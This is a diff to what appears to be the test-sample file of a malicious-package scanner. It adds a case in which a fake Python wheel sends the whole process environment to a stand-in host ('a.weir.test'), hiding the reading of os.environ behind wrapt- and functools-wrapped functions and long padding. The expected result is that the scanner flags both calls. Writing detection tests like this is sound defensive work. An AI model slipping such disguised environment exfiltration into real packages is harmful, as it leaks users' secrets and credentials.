@@ -46,6 +46,19 @@ export const PYTHON: Samples['malicious'] = [
     expected: [{ rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' }],
   },
   {
+    name: 'Python: the environment, from a function in the disguise of another one',
+    files: {
+      ...wheel(
+        "import requests\nfrom .facts import told, asked\nrequests.post('https://a.weir.test/x', json=told())\nrequests.post('https://a.weir.test/x', json=asked())\n",
+      ),
+      'own/facts.py': `${LONG}import functools, os, wrapt\ndef _told():\n    return dict(os.environ)\ntold = wrapt.wrap(_told)\nasked = functools.partial(_told)\n`,
+    },
+    expected: [
+      { rule: 'environment', file: 'own/__init__.py', line: 3, severity: 'high' },
+      { rule: 'environment', file: 'own/__init__.py', line: 4, severity: 'high' },
+    ],
+  },
+  {
     name: 'Python: the environment, with which an object of another module is made that sends it later',
     files: {
       ...wheel('import os\nfrom .core import Sender\nSender(dict(os.environ)).run()\n'),
